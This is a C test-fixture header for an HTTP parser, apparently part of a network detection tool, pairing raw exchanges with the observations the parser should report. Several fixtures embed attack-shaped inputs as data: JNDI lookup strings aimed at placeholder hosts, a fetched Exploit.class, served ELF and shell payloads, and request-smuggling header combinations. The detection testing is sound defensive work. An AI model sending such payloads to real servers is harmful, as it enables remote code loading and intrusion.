// SPDX-License-Identifier: GPL-2.0-or-later
// What two sides of HTTP say, and the observation lines it must give. Read by http_test.c.
#pragma once
#include "talk.h"

enum { LINES = 6 };

struct exchange {
	const char *name;
	struct line lines[LINES]; // said.at NULL ends
	enum direction direction;
	bool closes;
	enum parse result;
	const char *expect; // observation lines, without the flow
};

#define C(text) {true, {(const uint8_t *)(text), sizeof(text) - 1}}
#define SRV(text) {false, {(const uint8_t *)(text), sizeof(text) - 1}}
#define CLASS "\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\6\0\x0f\x09"
#define CLASS_HEX "cafebabe00000034001d0a0006000f09"

static const struct exchange exchanges[] = {
	{"a request and its page",
	 {C("GET /a?b=c HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: curl/7.88\r\nReferer: http://x/\r\n\r\n"),
	  SRV("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 22\r\n\r\n<!DOCTYPE "
	      "html>\n<html>")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/a?b=c\" host=\"www.example.com\" "
	 "user_agent=\"curl/7.88\" "
	 "referer=\"http://x/\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=200 length=22 content_type=\"text/html\" server=\"nginx\" "
	 "version=\"HTTP/1.1\"\n"
	 "file http server tx=1 kind=html length=22 content_type=\"text/html\" "
	 "head=3c21444f43545950452068746d6c3e0a\n"},
	{"a class from a bare address",
	 {C("GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_102\r\nHost: 192.0.2.7:8000\r\n\r\n"),
	  SRV("HTTP/1.0 200 OK\r\nContent-Type: image/png\r\n\r\n" CLASS "more of it")},
	 DIRECTION_OUT,
	 true,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/Exploit.class\" host=\"192.0.2.7:8000\" "
	 "user_agent=\"Java/1.8.0_102\" "
	 "version=\"HTTP/1.1\" flags=bare-host\n"
	 "http.response http server tx=1 status=200 content_type=\"image/png\" version=\"HTTP/1.0\"\n"
	 "file http server tx=1 kind=java-class content_type=\"image/png\" head=" CLASS_HEX
	 " facts=java-class,file-mismatch flags=bare-host\n"},
	{"pipelined requests, HEAD among them, keep-alive",
	 {C("GET /1 HTTP/1.1\r\nHost: a\r\n\r\nHEAD /2 HTTP/1.1\r\nHost: a\r\n\r\nGET /3 HTTP/1.1\r\nHost: a\r\n\r\n"),
	  SRV("HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n"
	      "HTTP/1.1 304 Not Modified\r\nContent-Length: 5\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/1\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.request http client tx=2 method=\"HEAD\" uri=\"/2\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.request http client tx=3 method=\"GET\" uri=\"/3\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=204 version=\"HTTP/1.1\"\n"
	 "http.response http server tx=2 status=200 length=999 version=\"HTTP/1.1\"\n"
	 "http.response http server tx=3 status=304 length=5 version=\"HTTP/1.1\"\n"},
	{"chunks with extensions, zeros, bare LF and a trailer",
	 {C("GET / HTTP/1.1\nHost: a\n\n"),
	  SRV("HTTP/1.1 200 OK\nTransfer-Encoding: gzip, Chunked\n\n3;x=y\n\x7f"
	      "EL\n00000005 \r\nF\2\1\1\0\r\n"
	      "8\r\n\0\0\0\0\0\0\0\0\r\n0\r\nX-Trailer: 1\r\n\r\nHTTP/1.1 404 No\r\nContent-Length: 0\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=200 version=\"HTTP/1.1\"\n"
	 "file http server tx=1 kind=elf head=7f454c46020101000000000000000000 facts=executable\n"
	 "http.response http server status=404 version=\"HTTP/1.1\"\n"},
	{"an upload, 100 Continue before it",
	 {C("PUT /x.sh HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Type: text/css\r\nContent-Length: "
	    "21\r\n\r\n"),
	  SRV("HTTP/1.1 100 Continue\r\n\r\n"), C("#!/bin/sh\nid;id;id;id"),
	  SRV("HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 length=21 method=\"PUT\" uri=\"/x.sh\" host=\"a\" content_type=\"text/css\" "
	 "version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=100 version=\"HTTP/1.1\"\n"
	 "file http client tx=1 kind=script length=21 content_type=\"text/css\" head=23212f62696e2f73680a69643b69643b "
	 "facts=script,file-mismatch\n"
	 "http.response http server tx=1 status=201 version=\"HTTP/1.1\"\n"},
	{"folded headers",
	 {C("GET / HTTP/1.1\r\nHost:\r\n www.example.com\r\nUser-Agent: a\r\n\tb\r\n  c\r\nX: y\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/\" host=\"www.example.com\" user_agent=\"a\\x09b  c\" "
	 "version=\"HTTP/1.1\"\n"},
	{"an absolute target, user and all, stands before Host",
	 {C("GET http://u:p@www.example.com:81/x HTTP/1.1\r\nHost: other\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"http://u:p@www.example.com:81/x\" "
	 "host=\"www.example.com:81\" "
	 "version=\"HTTP/1.1\"\n"},
	{"CONNECT, refused and then granted",
	 {C("CONNECT a.example:443 HTTP/1.1\r\n\r\n"), SRV("HTTP/1.1 407 No\r\nContent-Length: 2\r\n\r\nno"),
	  C("CONNECT a.example:443 HTTP/1.1\r\n\r\n"), SRV("HTTP/1.1 200 Go\r\n\r\n"), C("GET / HTTP/1.1\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_DONE,
	 "http.request http client tx=1 method=\"CONNECT\" uri=\"a.example:443\" host=\"a.example:443\" "
	 "version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=407 length=2 version=\"HTTP/1.1\"\n"
	 "file http server tx=1 kind=text length=2 head=6e6f\n"
	 "http.request http client tx=2 method=\"CONNECT\" uri=\"a.example:443\" host=\"a.example:443\" "
	 "version=\"HTTP/1.1\"\n"
	 "http.response http server tx=2 status=200 version=\"HTTP/1.1\"\n"},
	{"an upgrade ends it",
	 {C("GET /ws HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n"),
	  SRV("HTTP/1.1 101 Switching\r\n\r\n\x81\5hello")},
	 DIRECTION_OUT,
	 false,
	 PARSE_DONE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/ws\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=101 version=\"HTTP/1.1\"\n"},
	{"HTTP/0.9",
	 {C("GET /x\n"), SRV("\x7f"
			     "ELF\2\1\1\0\0\0\0\0\0\0\0\0\0")},
	 DIRECTION_OUT,
	 true,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/x\" flags=bare-host\n"
	 "file http server tx=1 kind=elf head=7f454c46020101000000000000000000 facts=executable flags=bare-host\n"},
	{"an answer without a question",
	 {SRV("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"), C("GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
	  SRV("HTTP/1.1 500 No\r\nContent-Length: 0\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.response http server status=200 version=\"HTTP/1.1\"\n"
	 "http.request http client tx=1 method=\"GET\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=500 version=\"HTTP/1.1\"\n"},
	{"an unknown method, spaces in the target, lower-case version",
	 {C("FROB /a b\tc http/1.1\r\nhOsT: a\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"FROB\" uri=\"/a b\\x09c\" host=\"a\" version=\"http/1.1\"\n"},
	{"two lengths that differ: what follows is looked at as a body without end",
	 {C("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n")},
	 DIRECTION_IN,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 length=5 method=\"POST\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"},
	{"two lengths that agree",
	 {C("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3, 3\r\nContent-Length: 3\r\n\r\nabcGET / "
	    "HTTP/1.1\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 length=3 method=\"POST\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "file http client tx=1 kind=text length=3 head=616263\n"
	 "http.request http client tx=2 method=\"GET\" uri=\"/\" version=\"HTTP/1.1\" flags=bare-host\n"},
	{"chunking stands before a length",
	 {C("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: "
	    "chunked\r\n\r\n1\r\nx\r\n0\r\n\r\nGET /2\r\n\r\n")},
	 DIRECTION_OUT,
	 true,
	 PARSE_MORE,
	 "http.request http client tx=1 length=3 method=\"POST\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "file http client tx=1 kind=text length=3 head=78\n"
	 "http.request http client tx=2 method=\"GET\" uri=\"/2\" flags=bare-host\n"},
	{"xchunked is not chunked",
	 {C("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n1\r\nx")},
	 DIRECTION_OUT,
	 true,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"POST\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "file http client tx=1 kind=text head=310d0a78\n"},
	{"a chunk size that overflows",
	 {C("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\nx")},
	 DIRECTION_OUT,
	 true,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"POST\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "file http client tx=1 kind=text head=66310d0a78\n"},
	{"a coded body says nothing of the file",
	 {C("GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
	  SRV("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: 18\r\n\r\n"
	      "\x1f\x8b\x08\0\0\0\0\0\0\3\1\2\3\4\5\6\7\x08")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=200 length=18 content_type=\"text/html\" version=\"HTTP/1.1\"\n"
	 "file http server tx=1 kind=binary length=18 content_type=\"text/html\" "
	 "head=1f8b0800000000000003010203040506\n"},
	{"look-ups in target, headers, user name and body",
	 {C("POST /?x=${jndi:ldap://h1/a} HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:rmi://h2:99/b}\r\n"
	    "Authorization: Basic JHtqbmRpOmxkYXA6Ly9oMy9jfTpw\r\nContent-Length: "
	    "25\r\n\r\nq=${jndi:ldap://h4/d}&r=s")},
	 DIRECTION_IN,
	 false,
	 PARSE_MORE,
	 "jndi http client field=\"uri\" scheme=\"ldap\" host=\"h1\" path=\"/a\" decoded=\"jndi:ldap://h1/a\" "
	 "raw=\"${jndi:ldap://h1/a}\" facts=jndi\n"
	 "jndi http client port=99 field=\"header:x-api\" scheme=\"rmi\" host=\"h2\" path=\"/b\" "
	 "decoded=\"jndi:rmi://h2:99/b\" "
	 "raw=\"${jndi:rmi://h2:99/b}\" facts=jndi\n"
	 "jndi http client field=\"basic-auth\" scheme=\"ldap\" host=\"h3\" path=\"/c\" decoded=\"jndi:ldap://h3/c\" "
	 "raw=\"JHtqbmRpOmxkYXA6Ly9oMy9j\" facts=jndi flags=encoded\n"
	 "http.request http client tx=1 length=25 method=\"POST\" uri=\"/?x=${jndi:ldap://h1/a}\" host=\"a\" "
	 "version=\"HTTP/1.1\"\n"
	 "named http client field=\"uri\" hosts=\"h1 h2\"\n"
	 "jndi http client field=\"body\" scheme=\"ldap\" host=\"h4\" path=\"/d\" decoded=\"jndi:ldap://h4/d\" "
	 "raw=\"${jndi:ldap://h4/d}\" facts=jndi\n"
	 "file http client tx=1 kind=text length=25 head=713d247b6a6e64693a6c6461703a2f2f\n"
	 "named http client field=\"body\" hosts=\"h4\"\n"},
	{"what a request names, in target, headers, cookie, trailer and body; its own site is nothing new",
	 {C("POST /?u=http%3A%2F%2F203.0.113.9%3A8080%2Fx HTTP/1.1\r\nHost: www.example.com\r\n"
	    "Referer: http://www.example.com/form\r\nX-Forwarded-For: 198.51.100.7\r\n"
	    "X-Real-IP: http://probe.example.net/\r\nUser-Agent: x/120.0.0.1\r\nX-Notify: [2001:db8::7]:80\r\n"
	    "Cookie: back=aHR0cDovL2I2NC5leGFtcGxlL2E=\r\nTransfer-Encoding: chunked\r\n\r\n"
	    "15\r\n{\"u\":\"http:\\/\\/0xcb00\r\nc\r\n7101\\/l.sh\"}\r\n0\r\nZ: //late.example/\r\n\r\n")},
	 DIRECTION_IN,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"POST\" uri=\"/?u=http%3A%2F%2F203.0.113.9%3A8080%2Fx\" "
	 "host=\"www.example.com\" user_agent=\"x/120.0.0.1\" referer=\"http://www.example.com/form\" version=\"HTTP/1.1\"\n"
	 "named http client field=\"uri\" addresses=203.0.113.9,2001:db8::7 hosts=\"probe.example.net b64.example\"\n"
	 "file http client tx=1 kind=json head=7b2275223a22687474703a5c2f5c2f30\n"
	 "named http client field=\"body\" addresses=203.0.113.1\n"
	 "named http client field=\"header:z\" hosts=\"late.example\"\n"},
	{"what a server or an inside client says names nobody",
	 {C("GET /?u=http://203.0.113.9/ HTTP/1.1\r\nHost: a\r\n\r\n"),
	  SRV("HTTP/1.1 302 Found\r\nLocation: http://203.0.113.9/\r\nContent-Length: 0\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/?u=http://203.0.113.9/\" host=\"a\" version=\"HTTP/1.1\"\n"
	 "http.response http server tx=1 status=302 location=\"http://203.0.113.9/\" version=\"HTTP/1.1\"\n"},
	{"a look-up in a folded header, one in a header's name, one in a trailer",
	 {C("POST / HTTP/1.1\r\nHost: a\r\nX: ${jndi:ld\r\n ap://h/a}\r\n${jndi:dns://h/b}: v\r\nTransfer-Encoding: "
	    "chunked\r\n\r\n"
	    "0\r\nY: ${jndi:dns://h/c}\r\n\r\n")},
	 DIRECTION_IN,
	 false,
	 PARSE_MORE,
	 NULL},
	{"nothing is searched for look-ups in what a device sends",
	 {C("GET /?x=${jndi:ldap://h1/a} HTTP/1.1\r\nHost: a\r\n\r\n")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/?x=${jndi:ldap://h1/a}\" host=\"a\" "
	 "version=\"HTTP/1.1\"\n"},
	{"the own address in target, header and body",
	 {C("GET /?me=10.0.0.5 HTTP/1.1\r\nHost: a\r\n\r\n"
	    "POST / HTTP/1.1\r\nHost: a\r\nX-From: 10.0.0.5\r\nContent-Length: 8\r\n\r\n10.0.0.5")},
	 DIRECTION_OUT,
	 false,
	 PARSE_MORE,
	 "http.request http client tx=1 method=\"GET\" uri=\"/?me=10.0.0.5\" host=\"a\" version=\"HTTP/1.1\" "
	 "facts=self-address\n"
	 "http.request http client tx=2 length=8 method=\"POST\" uri=\"/\" host=\"a\" version=\"HTTP/1.1\" "
	 "facts=self-address\n"
	 "file http client tx=2 kind=text length=8 head=31302e302e302e35 facts=self-address\n"},
	{"no HTTP at all", {C("\x16\x03\x01\x02")}, DIRECTION_OUT, false, PARSE_BAD, ""},
	{"no target", {C("GET\r\n\r\n")}, DIRECTION_OUT, false, PARSE_BAD, ""},
	{"no status", {SRV("HTTP/1.1 abc OK\r\n\r\n")}, DIRECTION_OUT, false, PARSE_BAD, ""},
};
